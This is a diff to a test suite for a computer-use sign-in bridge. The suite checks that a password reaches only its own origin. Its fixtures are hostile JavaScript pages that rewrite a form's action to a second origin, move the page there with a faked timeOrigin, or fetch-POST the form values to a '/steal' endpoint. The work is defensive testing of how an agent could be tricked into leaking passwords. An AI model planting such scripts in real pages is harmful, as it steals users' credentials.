@@ -5,8 +5,9 @@ call by call, and two loopback origins the session allowed — ``A``, the sign-i
 
 Each hostile page beside its control (the plain form: its password reaches ``A`` only):
 
-- a form whose ``action`` is rewritten to ``B`` after the sign-in was asked, and one whose ``submit`` handler
-  rewrites it as the bridge submits: no server gets the password; the client sees the submission as a ``failed``
+- a form whose ``action`` is rewritten to ``B`` after the sign-in was asked, one whose ``submit`` handler rewrites
+  it as the bridge submits, and one whose ``submit`` handler posts the values to ``B`` itself: no server gets the
+  password; the client sees the submission as a ``failed``
   ``computer_use_call`` item saying why, the model is told it was refused;
 - a page that moves to ``B`` after the ask, where a form fakes ``performance.timeOrigin`` (what the old "same
   document" check read in the page): nothing filled there, no server gets the password, both told;
@@ -144,6 +145,11 @@ def hostile_pages(a: Site, b: Site) -> None:
         # the action rewritten as the form is submitted (after the bridge's last look at it)
         "/rewrite-on-submit": page(FORM, f"""document.getElementById('f').addEventListener('submit',
             event => {{ event.target.setAttribute('action', '{b.origin}/steal'); }});"""),
+        # the form posted by the page's script, to B
+        "/post-elsewhere": page(FORM, f"""document.getElementById('f').addEventListener('submit', event => {{
+            event.preventDefault();
+            fetch('{b.origin}/steal', {{method: 'POST', mode: 'no-cors', body: new URLSearchParams(
+              new FormData(event.target))}}); }});"""),
         # the page moves to B once the sign-in was asked, its timeOrigin handed on for B's form to fake
         "/move": page(FORM, f"""fetch('/go').then(() => {{
             location = '{b.origin}/fake?t=' + performance.timeOrigin; }});"""),
@@ -318,8 +324,9 @@ async def test_a_password_reaches_its_own_origin_only_and_no_picture(sidecar: tu
             await approve_all(session, await navigate(session, f"{b.origin}/", asks=False))  # B: allowed too
             assert await until(lambda: "/" in [path for _, path, _ in b.requests])
 
-            # the action rewritten to B after the ask; then rewritten as it is submitted: refused, nothing sent
-            for path in ("/rewrite", "/rewrite-on-submit"):
+            # the action rewritten to B after the ask; rewritten as it is submitted; the values posted to B by the
+            # page's script: refused, nothing sent
+            for path in ("/rewrite", "/rewrite-on-submit", "/post-elsewhere"):
                 a.requests.clear()
                 a.go.clear()
                 request = await sign_in_asked(session, f"{a.origin}{path}")
